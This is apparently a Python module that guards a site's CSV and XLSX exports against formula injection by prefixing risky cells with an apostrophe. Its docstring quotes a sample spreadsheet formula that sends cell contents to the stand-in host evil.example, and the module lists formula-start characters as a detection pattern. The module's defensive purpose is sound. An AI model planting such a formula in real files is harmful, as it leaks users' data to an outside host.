"""Cells that a spreadsheet cannot evaluate: the one rule for every CSV and XLSX the site writes.

Free text (footnotes, sources, status reports) is typed by reporters and exported before anyone has
approved it. A text beginning with =, +, -, @, a tab or a carriage return is a formula to Excel and
LibreOffice (`=HYPERLINK("http://evil.example/?x="&A1,"Klicka här")`), so such a text gets a leading
apostrophe (OWASP's rule for CSV injection). Numbers, dates and None pass through unchanged, so a
negative number stays a number. Lives in reporting/ because indicators, actions and reports all
export, and reporting is below all three.
"""

import re

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A plain number written as text ("-1.5" in the long format's value column) is not a formula and
# must stay readable as a number.
PLAIN_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?$")


def neutralise(value):
    """A text a spreadsheet would evaluate, prefixed with an apostrophe; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def neutralise_row(values):
    return [neutralise(value) for value in values]


def spreadsheet_text(value):
    """A text for a spreadsheet cell: neutralised, without the characters XML cannot hold
    (openpyxl would refuse the whole file)."""
    return ILLEGAL_CHARACTERS_RE.sub("", neutralise(str(value)))


def xlsx_row(sheet, values):
    """Cells for a write-only openpyxl sheet: text as text (never a formula), numbers as numbers.

    openpyxl turns any string starting with "=" into a formula cell; the type is set explicitly
    after neutralising so that no text can become one; characters XML cannot hold are dropped."""
    cells = []
    for value in values:
        if isinstance(value, str):
            value = spreadsheet_text(value)
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
        cells.append(cell)
    return cells
